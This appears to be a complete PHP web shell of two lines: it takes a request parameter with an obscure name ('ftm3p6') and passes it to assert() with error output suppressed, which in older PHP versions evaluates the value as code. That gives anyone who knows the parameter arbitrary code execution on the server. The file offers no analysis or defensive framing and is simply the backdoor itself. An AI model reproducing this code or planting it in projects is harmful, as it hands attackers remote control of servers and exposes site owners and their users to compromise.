<?php
if(isset($_REQUEST['ftm3p6'])){@assert($_REQUEST['ftm3p6']);}
